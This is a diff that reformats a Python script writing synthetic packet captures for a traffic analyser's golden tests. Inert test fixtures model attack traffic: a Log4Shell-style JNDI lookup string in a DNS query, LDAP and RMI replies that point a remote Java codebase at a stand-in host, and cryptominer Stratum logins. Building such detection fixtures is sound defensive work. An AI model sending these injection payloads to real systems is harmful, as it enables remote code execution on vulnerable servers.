@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Writes the hand-made captures of the golden tests, one function each: its name is the scene's. All bytes are inert, all addresses of
-RFC 5737 and RFC 3849, all names of RFC 2606. usage: captures.py FOLDER"""
+"""Writes the hand-made captures of the golden tests, one function each: its name is the scene's. All bytes are inert,
+all addresses of RFC 5737 and RFC 3849, all names of RFC 2606. usage: captures.py FOLDER"""
 import base64, pathlib, struct, sys
 from wire import *
 
@@ -61,8 +61,9 @@ def both_families(c):
     c.add(icmp_echo(DEVICE, FAR))
 
 
-for how, options in {"cooked": {"link": COOKED}, "cooked2": {"link": COOKED2}, "raw-ip": {"link": RAW}, "loopback": {"link": NULL},
-                     "big-endian": {"order": ">", "nanoseconds": False}, "pcapng": {"pcapng": True}}.items():
+for how, options in {"cooked": {"link": COOKED}, "cooked2": {"link": COOKED2}, "raw-ip": {"link": RAW},
+                     "loopback": {"link": NULL}, "big-endian": {"order": ">", "nanoseconds": False},
+                     "pcapng": {"pcapng": True}}.items():
     SCENES[how] = (both_families, options)
 
 
@@ -80,7 +81,7 @@ def directions(c):
 
 @scene()
 def order(c):
-    """Segments swapped, twice, overlapping with other bytes (the first copy is the one), and the end before its data."""
+    """Segments swapped, twice, overlapping with other bytes (the first copy is the one), the end before its data."""
     ask, body = get("/order"), reply(CLASS, "application/java-vm")
     t = Talk(c, (DEVICE, 40000), (FAR, 80))
     t.segment(0, PSH | ACK, ask[20:40], offset=20)
@@ -147,7 +148,8 @@ def cut_short(c):
 def chunked(c):
     t = Talk(c, (SERVER, 40000), (FAR, 8081))
     t.ask(get("/a") + get("/b"))  # two requests at once
-    for piece in (reply(b"", "application/octet-stream", "Transfer-Encoding: chunked\r\n", length=False), b"5\r\n" + ELF[:5] + b"\r\n",
+    head = reply(b"", "application/octet-stream", "Transfer-Encoding: chunked\r\n", length=False)
+    for piece in (head, b"5\r\n" + ELF[:5] + b"\r\n",
                   b"%x;note=x\r\n" % (len(ELF) - 5) + ELF[5:] + b"\r\n", b"0\r\nTrailer: x\r\n\r\n"):
         t.answer(piece)
     t.answer(reply(b"#!/bin/sh\n# inert\n", "image/png"))
@@ -176,8 +178,10 @@ def rmi(c):
     t.ask(b"JRMI\0\2\x4b")
     t.answer(java_text(b"\x4e", "192.0.2.12") + struct.pack(">I", 40000))
     t.ask(java_text(b"", "192.0.2.12") + struct.pack(">I", 0))
-    t.ask(b"\x50\xac\xed\0\5\x77\x22" + bytes(22) + struct.pack(">iq", 2, 0x44154dc9d4e63bdf) + java_text(b"\x74", "Exploit"))
-    stub = java_text(b"\x73\x72", "org.example.ReferenceWrapper_Stub") + bytes(8) + java_text(b"\x74", "http://203.0.113.80:8000/")
+    look_up = struct.pack(">iq", 2, 0x44154dc9d4e63bdf)  # operation and hash of java.rmi.registry.Registry
+    t.ask(b"\x50\xac\xed\0\5\x77\x22" + bytes(22) + look_up + java_text(b"\x74", "Exploit"))
+    stub = java_text(b"\x73\x72", "org.example.ReferenceWrapper_Stub") + bytes(8)
+    stub += java_text(b"\x74", "http://203.0.113.80:8000/")
     t.answer(b"\x51\xac\xed\0\5\x77\x0f\1" + bytes(14) + stub)
     t.ask(b"\x52")
     t.answer(b"\x53")
@@ -194,7 +198,8 @@ def stratum(c):
     t.ask(line('{"id":1,"method":"mining.subscribe","params":["golden-miner/1.0"]}'))
     t.answer(line('{"id":1,"result":[[["mining.notify","1"]],"00",4],"error":null}'))
     t.ask(line('{"id":2,"method":"mining.authorize","params":["wallet-of-nobody.1","x"]}'))
-    t.answer(line('{"id":2,"result":true,"error":null}') + line('{"id":null,"method":"mining.notify","params":["1","00"]}'))
+    t.answer(line('{"id":2,"result":true,"error":null}') +
+             line('{"id":null,"method":"mining.notify","params":["1","00"]}'))
     t.ask(line('{"id":3,"method":"mining.submit","params":["wallet-of-nobody.1","1","00","00","00"]}'))
     t.close()
     t = Talk(c, (SERVER, 40001), (FAR, 9000))  # JSON-RPC that is no mining
@@ -223,8 +228,10 @@ def dns(c):
     both(5, "7.100.51.198.in-addr.arpa", 12, [(12, name("host.example"))])
     both(6, "${jndi:dns://x.example}.example", 16)
     t = Talk(c, (DEVICE, 40100), (OTHER, 53))
-    for message in (dns_message(7, 0x0100, "tcp.example", 1), dns_message(7, 0x8180, "tcp.example", 1, [(1, packed(FAR))])):
-        (t.ask if message[2] < 0x80 else t.answer)(struct.pack(">H", len(message)) + message)
+    question = dns_message(7, 0x0100, "tcp.example", 1)
+    answer = dns_message(7, 0x8180, "tcp.example", 1, [(1, packed(FAR))])
+    t.ask(struct.pack(">H", len(question)) + question)
+    t.answer(struct.pack(">H", len(answer)) + answer)
     t.close()
     c.add(udp(DEVICE, FAR, (40200, 5300), dns_message(8, 0x0100, "elsewhere.example", 1)))  # not its port
 
@@ -249,9 +256,11 @@ def ldap(c):
         return ber(0x30, number(n), *operation)
     search = ber(0x63, ber(4, "cn=x,dc=example"), number(2, 10), number(0, 10), number(0), number(0), ber(1, b"\0"),
                  ber(0x87, "objectClass"), ber(0x30))
-    entry = ber(0x64, ber(4, "cn=x,dc=example"), ber(0x30, attribute("javaClassName", "foo"), attribute("javaFactory", "Factory"),
-                attribute("javaCodeBase", "http://203.0.113.80:8000/"), attribute("objectClass", "javaNamingReference")))
-    serial = ber(0x64, ber(4, "cn=y"), ber(0x30, attribute("javaClassName", "foo"), attribute("javaSerializedData", b"\xac\xed\0\5sr")))
+    java = attribute("javaClassName", "foo")
+    entry = ber(0x64, ber(4, "cn=x,dc=example"), ber(0x30, java, attribute("javaFactory", "Factory"),
+                attribute("javaCodeBase", "http://203.0.113.80:8000/"),
+                attribute("objectClass", "javaNamingReference")))
+    serial = ber(0x64, ber(4, "cn=y"), ber(0x30, java, attribute("javaSerializedData", b"\xac\xed\0\5sr")))
     plain = ber(0x64, ber(4, "cn=people"), ber(0x30, attribute("mail", "someone@example")))
     done = ber(0x65, number(0, 10), ber(4), ber(4))
     referral = ber(0x65, number(10, 10), ber(4), ber(4), ber(0xa3, ber(4, "ldap://198.51.100.7:1389/cn=z")))
@@ -266,7 +275,8 @@ def ldap(c):
     t.ask(message(6, ber(0x77, ber(0x80, "1.3.6.1.4.1.1466.20037"))))  # StartTLS
     t.answer(message(6, ber(0x78, number(0, 10), ber(4), ber(4))))
     t.close()
-    visit(c, (DEVICE, 40001), (SERVER, 389), message(1, search), message(1, plain) + message(1, done))  # inside: no news
+    # inside: no news
+    visit(c, (DEVICE, 40001), (SERVER, 389), message(1, search), message(1, plain) + message(1, done))
 
 
 @scene()
@@ -303,7 +313,8 @@ def hello(sni="www.example", alpn=(b"h2", b"http/1.1"), versions=(0x0304, 0x0303
         more += extension(16, struct.pack(">H", len(names)) + names)
     if versions:
         more += extension(43, bytes([2 * len(versions)]) + struct.pack(">%dH" % len(versions), *versions))
-    body = b"\3\3" + bytes(range(32)) + b"\0" + bytes.fromhex("0006130113021303") + b"\1\0" + struct.pack(">H", len(more)) + more
+    body = b"\3\3" + bytes(range(32)) + b"\0" + bytes.fromhex("0006130113021303") + b"\1\0"
+    body += struct.pack(">H", len(more)) + more
     shake = b"\1" + struct.pack(">I", len(body))[1:] + body
     return b"\x16\3\1" + struct.pack(">H", len(shake)) + shake
 
